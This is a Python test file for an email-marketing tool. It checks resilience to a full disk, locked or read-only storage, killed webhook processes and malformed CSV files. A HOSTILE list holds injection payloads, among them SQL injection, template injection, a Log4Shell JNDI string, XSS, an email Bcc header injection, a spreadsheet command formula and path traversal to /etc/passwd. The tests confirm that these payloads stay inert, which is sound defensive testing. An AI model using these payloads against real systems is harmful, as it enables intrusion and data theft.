"""What the world does to a running shop: hostile values, a full disk, a locked or read-only store, rubbish files."""

import csv
import json
import os
import resource
import sqlite3
import subprocess
from base64 import b64encode
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import timedelta
from email import message_from_bytes, policy
from pathlib import Path
from random import Random  # noqa: TID251  (tests may draw: the seed is given)
from unittest.mock import patch
from urllib.error import HTTPError
from urllib.request import Request, urlopen

from cryptography.hazmat.primitives.asymmetric.ec import (
    ECDSA,
    SECP256R1,
    EllipticCurvePrivateKey,
    generate_private_key,
)
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from nurture.store.world_faults import FAILING, FULL, LOCKED, READ_ONLY
from nurture.web.hooks import SIGNATURE, TIMESTAMP
from nurture.wiring import now, stopwatch
from tests.daemon_nursery import shared
from tests.daemons import free_port, until
from tests.projects import COMMAND, Answer, Project

HOSTILE = (
    "Robert'); DROP TABLE person;--",
    "' OR '1'='1",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${jndi:ldap://192.0.2.1/a}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Salma\r\nBcc: everybody@shop.example\r\n\r\nHello",
    "=cmd|' /C calc'!A1",
    "../../../etc/passwd\x1b[31m",
    "-nv1- -nv2- %recipient% *|NAME|*",
)


def people_in(project: Project) -> int:
    with sqlite3.connect(project.root / "nurture.db") as store:
        return int(store.execute("SELECT count(*) FROM person").fetchone()[0])


def limited(project: Project, *arguments: str, before: Callable[[], None]) -> Answer:
    """A command under a limit that the machine sets it."""
    done = subprocess.run(
        [COMMAND, *arguments],
        cwd=project.root,
        env=project.environment(),
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        preexec_fn=before,
    )
    return Answer(done.returncode, done.stdout, done.stderr)


def test_hostile_values_arrive_as_text_and_break_nothing(project: Project) -> None:
    project.ok("apply")
    people = [(f"c{n}", f"c{n}@shop.example", "en", "Europe/Paris", name) for n, name in enumerate(HOSTILE)]
    at = (now() - timedelta(minutes=5)).isoformat(timespec="seconds")
    project.table("contacts.csv", ["id", "email", "locale", "zone", "first_name"], people)
    project.table("events.csv", ["id", "event", "at", "ticket"],
                  [(f"c{n}", "complaint.opened", at, name) for n, name in enumerate(HOSTILE)])  # fmt: skip
    project.ok("import", "contacts", "contacts.csv")
    project.ok("import", "events", "events.csv")
    project.ok("run", "--once")
    assert people_in(project) == len(HOSTILE)
    mails = [message_from_bytes(path.read_bytes(), policy=policy.default) for path in project.mails]
    assert len(mails) == len(HOSTILE)
    assert {mail["To"].addresses[0].addr_spec for mail in mails} == {f"c{n}@shop.example" for n in range(len(HOSTILE))}
    for mail in mails:
        html = mail.get_body(("html",)).get_content()
        assert mail["Bcc"] is None
        assert "<script" not in html
        assert "onerror=alert(1)>" not in html
        assert "49" not in mail["Subject"]
        assert "__subclasses__" not in html or "{{ 7 * 7 }}" in html
    for n in range(len(HOSTILE)):
        shown = project.ok("show", f"c{n}").out
        assert "\x1b" not in shown
        assert "\r" not in shown


def test_a_full_disk_is_said_and_what_was_there_stays(shop: Callable[[int], Project]) -> None:
    project = shop(5)
    people = [(f"n{n}", f"n{n}@shop.example", "en", "x" * 60) for n in range(20_000)]
    project.table("more.csv", ["id", "email", "locale", "first_name"], people)
    most = (project.root / "nurture.db").stat().st_size + 300_000

    def full() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (most, most))

    answer = limited(project, "import", "contacts", "more.csv", before=full)
    assert answer.code == 4, answer
    assert "Traceback" not in answer.err
    assert FAILING in answer.err or FULL in answer.err
    assert "n1@shop.example" not in answer.err
    with sqlite3.connect(project.root / "nurture.db") as store:
        assert store.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    before = people_in(project)
    assert 5 <= before < 20_005
    project.ok("import", "contacts", "more.csv")
    assert people_in(project) == 20_005


@contextmanager
def held(project: Project) -> Iterator[None]:
    """Somebody else writes to the store, and does not end."""
    with sqlite3.connect(project.root / "nurture.db", isolation_level=None) as other:
        other.execute("BEGIN IMMEDIATE")
        yield
        other.execute("ROLLBACK")


def test_a_store_that_somebody_holds_is_waited_for_and_said(shop: Callable[[int], Project]) -> None:
    project = shop(2)
    born, waited = shared(), stopwatch()
    with held(project), patch.object(born, "planted", "impatient"):  # it would wait for half a minute
        answer = born.answer(project.root, ["run", "--once"], project.environment())
    assert waited() > 1
    assert answer.code == 4, answer
    assert "Traceback" not in answer.err
    assert LOCKED in answer.err
    assert project.mails == []
    project.ok("run", "--once")
    assert len(project.mails) == 2


def test_a_store_that_cannot_be_written_to_sends_nothing(shop: Callable[[int], Project]) -> None:
    """Root may write anywhere: the right to do so is given up first, by Debian's setpriv."""
    project = shop(2)
    given_up = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--inh-caps=-dac_override,-dac_read_search"]
    before = given_up if os.geteuid() == 0 else []
    files = [project.root, *project.root.glob("nurture.db*")]
    try:
        for file in files:
            file.chmod(0o555 if file.is_dir() else 0o444)
        done, seen = (
            subprocess.run(
                [*before, COMMAND, *words],
                cwd=project.root,
                env=project.environment(),
                capture_output=True,
                text=True,
                timeout=300,
                check=False,
            )
            for words in (("run", "--once"), ("doctor", "--offline"))
        )
    finally:
        for file in files:
            file.chmod(0o755 if file.is_dir() else 0o644)
    assert done.returncode == 4, done
    assert "Traceback" not in done.stderr
    assert READ_ONLY in done.stderr
    assert seen.returncode == 1, seen
    assert READ_ONLY in " ".join(seen.stdout.split())
    assert project.mails == []
    project.ok("run", "--once")
    assert len(project.mails) == 2


def test_posts_are_not_taken_for_kept_on_a_full_disk_nor_lost_by_kill_9(project: Project) -> None:
    """SendGrid posts until it hears 2xx: what is answered so must be in the store, whatever ends the web part."""
    project.ok("apply")
    key, port = generate_private_key(SECP256R1()), free_port()
    public = b64encode(key.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)).decode()
    told_so = f'[web]\nurl = "https://shop.example"\nlisten = "127.0.0.1:{port}"\n[sendgrid]\nevents_key = "{public}"\n'
    (project.root / "config.toml").write_text(told_so, encoding="utf-8")
    most = (project.root / "nurture.db").stat().st_size + 400_000

    def full() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (most, most))

    answers = Counter[int]()
    with web(project, port, full) as process:
        for number in range(40):
            answers[told(port, key, number)] += 1
        process.kill()
        process.wait()
    assert 0 < answers[204] == posts_in(project), answers
    assert answers[204] + answers[503] == 40, answers
    with web(project, port, None):
        assert {told(port, key, number) for number in range(40)} == {204}
        assert signed(port, key, b"no JSON") == 204
    assert posts_in(project) == 41
    project.ok("run", "--once")
    with sqlite3.connect(project.root / "nurture.db") as store:
        assert store.execute("SELECT count(*), count(done_at) FROM received").fetchone() == (41, 40)
        assert store.execute("SELECT count(*) FROM happening").fetchone() == (40,)
        number = store.execute("SELECT number FROM received WHERE done_at IS NULL").fetchone()[0]
    listed = project.run("received")
    assert (listed.code, listed.lines[0].split()[0]) == (1, str(number))
    assert "the post is no JSON" in listed.out
    assert project.ok("received", str(number), "--drop").lines[:2] == [f"post {number} is let be", "all is read"]


@contextmanager
def web(project: Project, port: int, before: Callable[[], None] | None) -> Iterator[subprocess.Popen[bytes]]:
    """The web part alone, under a limit of the machine if there is one."""
    quiet = subprocess.DEVNULL
    given = {"cwd": project.root, "env": project.environment(), "stdout": quiet, "stderr": quiet}
    process = subprocess.Popen([COMMAND, "web"], preexec_fn=before, **given)  # noqa: PLW1509  (as in `limited`)
    try:
        until(lambda: asked(Request(f"http://127.0.0.1:{port}/health")))
        yield process
    finally:
        process.kill()
        process.wait()


def asked(request: Request) -> int:
    """The status of an answer; 0 when nobody answers."""
    try:
        with urlopen(request, timeout=60) as answer:  # noqa: S310  (an address of our own)
            return int(answer.status)
    except HTTPError as refused:
        return refused.code
    except OSError:
        return 0


def told(port: int, key: EllipticCurvePrivateKey, number: int) -> int:
    """What a post of one event and twenty kilobytes that do not compress is answered."""
    filler = Random(number).randbytes(20_000).hex()  # noqa: S311  (no secret)
    event = {
        "event": "processed",
        "timestamp": 1740300320,
        "nv_send": "k",
        "sg_event_id": f"e{number}",
        "filler": filler,
    }
    return signed(port, key, json.dumps([event]).encode())


def signed(port: int, key: EllipticCurvePrivateKey, body: bytes) -> int:
    """What a post that SendGrid signed is answered."""
    signature = b64encode(key.sign(b"1" + body, ECDSA(SHA256()))).decode()
    headers = {SIGNATURE: signature, TIMESTAMP: "1", "Content-Type": "application/json"}
    return asked(Request(f"http://127.0.0.1:{port}/in/sendgrid/events", body, headers))


def posts_in(project: Project) -> int:
    with sqlite3.connect(project.root / "nurture.db") as store:
        return int(store.execute("SELECT count(*) FROM received").fetchone()[0])


def test_rounds_imports_and_applies_at_once_write_to_everybody_once(shop: Callable[[int], Project]) -> None:
    project = shop(30)
    commands = [
        ("run", "--once"),
        ("run", "--once"),
        ("import", "events", "events.csv"),
        ("apply",),
    ]
    beside = [project.start(*words) for words in commands]
    for words, process in zip(commands, beside, strict=True):
        out, err = process.communicate(timeout=300)
        assert process.returncode == 0, (words, out, err)
    project.ok("run", "--once")
    assert len(project.mails) == 30


def rubbish(path: Path, rows: int, good_each: int) -> int:
    """A file of contacts in which few rows are any good; how many are."""
    random, good = Random(7), 0  # noqa: S311  (no secret)
    with path.open("wb") as file:
        file.write(b"id,email,locale,first_name\r\n")
        file.write(
            b'o1,"o@shop.example,en,A\r\no2,' + b"y" * 500_000 + b",en,B\r\no3,o3@shop.example,en,caf\xe9\x81\r\n"
        )
        for row in range(rows - 3):
            if row % good_each == 0:
                good += 1
                file.write(f"g{row},g{row}@shop.example,en,Salma\r\n".encode())
            else:
                bad = random.choice((
                    b"x%d,not an address,en,A" % row, b"x%d,%s%d@shop.example,en,B" % (row, b"a" * 64, row),
                    b"x%d,@,,\xff\xfe" % row, b"x%d,a@b@c,en" % row, b"x%d,\x00\x1b[2J,en,%s" % (row, b"C" * 900),
                ))  # fmt: skip
                file.write(bad + b"\r\n")
    return good


def test_rubbish_in_a_file_is_rejected_row_by_row_and_the_good_rows_come_in(project: Project) -> None:
    project.ok("apply")
    good = rubbish(project.root / "list.csv", 3_000, 10)
    answer = project.run("import", "contacts", "list.csv")
    assert "Traceback" not in answer.err
    assert people_in(project) == good
    (rejects,) = project.root.glob("*reject*")
    with rejects.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) + good == 3_000
    assert all(row["reason"] for row in rows)
